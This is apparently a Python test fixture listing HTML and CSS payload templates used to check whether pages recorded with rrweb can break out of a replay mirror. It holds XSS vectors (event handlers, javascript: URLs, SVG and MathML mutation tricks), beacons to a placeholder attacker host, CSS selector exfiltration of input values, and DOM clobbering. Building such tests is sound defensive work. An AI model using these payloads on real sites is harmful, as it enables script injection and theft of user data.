"""Pages that want out of the mirror, as a shop's page could carry them. Recorded with rrweb.

`{evil}` is the attacker's address for that page, `{run}` a script that tells on itself.
"""

from __future__ import annotations

__all__ = ["PAGES"]

PAGES: dict[str, str] = {
    "script": "<script>{run}</script><script src='{evil}/a.js'></script>",
    "module": "<script type=module src='{evil}/m.js'></script>",
    "image-error": "<img src='{evil}/x.png' onerror='{run}' onload='{run}'>",
    "body-load": "<body onload='{run}' onpageshow='{run}' background='{evil}/bg.png'>",
    "svg-load": "<svg onload='{run}'><script href='{evil}/a.js'>{run}</script></svg>",
    "svg-use": "<svg><use href='{evil}/a.svg#x'/><image href='{evil}/b.png'/>"
    "<feImage href='{evil}/c.png'/><a href='javascript:{run}'><text>x</text></a></svg>",
    "svg-animate": "<svg><a id=x><rect width=9 height=9 /></a>"
    "<animate href='#x' attributeName=href to='javascript:{run}' onbegin='{run}'/>"
    "<set attributeName=onmouseover to='{run}'/></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe>"
    "<img src='{evil}/f.png'></foreignObject></svg>",
    "mathml": "<math><maction actiontype='statusline#{evil}' xlink:href='javascript:{run}'>x"
    "</maction><mglyph src='{evil}/g.png'></math>",
    "mutation": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src='{evil}/m.png' onerror='{run}'></style></mglyph></form></mtext></math>",
    "noscript": "<noscript><p title=\"</noscript><img src='{evil}/n.png' onerror='{run}'>\">"
    "</noscript><noscript><img src='{evil}/pixel.png'></noscript>",
    "frames": "<iframe src='{evil}/frame'></iframe><iframe srcdoc='<script>{run}</script>'>"
    "</iframe><iframe src='javascript:{run}'></iframe>",
    "objects": "<object data='{evil}/o.swf'><embed src='{evil}/e.swf'></object>"
    "<object type='text/html' data='{evil}/o.html'></object>",
    "media": "<video src='{evil}/v.mp4' poster='{evil}/p.png' autoplay></video>"
    "<audio src='{evil}/a.mp3' autoplay></audio><video><track src='{evil}/t.vtt' default></video>"
    "<picture><source srcset='{evil}/s.png 1x'><img srcset='{evil}/t.png 2x'></picture>",
    "refresh": "<meta http-equiv=refresh content='0;url={evil}/refresh'>",
    "refresh-script": "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "base": "<base href='{evil}/' target=_top><img src='relative.png'><a href='x'>x</a>",
    "forms": "<form action='{evil}/form' method=post id=f><input name=q value=1 autofocus "
    "onfocus='{run}'><button formaction='javascript:{run}'>x</button>"
    "<input type=image src='{evil}/i.png'></form>",
    "links": "<a href='javascript:{run}' ping='{evil}/ping' id=l>x</a>"
    "<map name=m><area href='javascript:{run}' shape=default></map><img usemap='#m'>",
    "hints": "<link rel=preconnect href='{evil}'><link rel=dns-prefetch href='{evil}'>"
    "<link rel=prefetch href='{evil}/p'><link rel=preload as=image href='{evil}/l.png'>"
    "<link rel=prerender href='{evil}/r'><link rel=modulepreload href='{evil}/m.js'>"
    "<link rel=icon href='{evil}/i.ico'><link rel=manifest href='{evil}/m.json'>",
    "speculation": '<script type=speculationrules>{{"prerender":[{{"urls":["{evil}/s"]}}]}}'
    "</script>",
    "css": "<link rel=stylesheet href='{evil}/a.css'><style>@import '{evil}/i.css';"
    "@import url({evil}/j.css); body{{background:url({evil}/b.png)}}"
    "i{{cursor:url('{evil}/c.cur'),auto}}"
    "p{{background:image-set('{evil}/s.png' 1x)}}"
    "@font-face{{font-family:x;src:url({evil}/f.woff2)}} p{{font-family:x}}"
    "p::before{{content:url({evil}/k.png)}} li{{list-style:url({evil}/l.png)}}</style>"
    '<p style="border-image:url({evil}/r.png)">x</p><ul><li>x</ul>',
    "css-escapes": "<style>p{{background:u\\72l({evil}/e.png)}}"
    "\\40 import '{evil}/x.css'; i{{background:\\000055rl('{evil}/f.png')}}"
    "b{{background:url('{evil}/\\\n g.png')}}</style><p>x</p><i>x</i><b>x</b>",
    "css-exfiltration": "<style>input[value^='s']{{background:url({evil}/value-s)}}"
    "input[value^='t']{{background:url({evil}/value-t)}}"
    "@font-face{{font-family:y;src:url({evil}/glyph-A);unicode-range:U+41}}"
    "div{{font-family:y}}</style><input value=secret><div>A</div>",
    "css-variables": "<style>:root{{--u:'{evil}/v.png';--w:url({evil}/w.png)}}"
    "p{{background-image:image-set(var(--u) 1x)}} i{{background:var(--w)}}</style><p>x</p><i>x</i>",
    "clobbering": "<form id=documentElement name=body><input id=appendChild name=childNodes>"
    "<input name=setAttribute><img name=createElement></form>"
    "<img name=getElementsByTagName><form name=head></form><a id=defaultView></a>",
    "covering": "<div style='position:fixed;inset:-9999px;width:1e9px;height:1e9px;"
    "z-index:2147483647;background:red'>x</div><dialog open>x</dialog>"
    "<div popover id=p style='display:block;position:fixed;inset:0'>x</div>",
    "shadow": "<div><template shadowrootmode=open><style>@import '{evil}/s.css';"
    ":host{{background:url({evil}/h.png)}}</style><img src='{evil}/i.png' onerror='{run}'>"
    "</template></div>",
    "custom": "<x-evil is='x-evil' onclick='{run}'><slot onslotchange='{run}'></slot></x-evil>"
    "<details ontoggle='{run}' open><summary>x</summary></details>"
    "<marquee onstart='{run}'>x</marquee>",
}
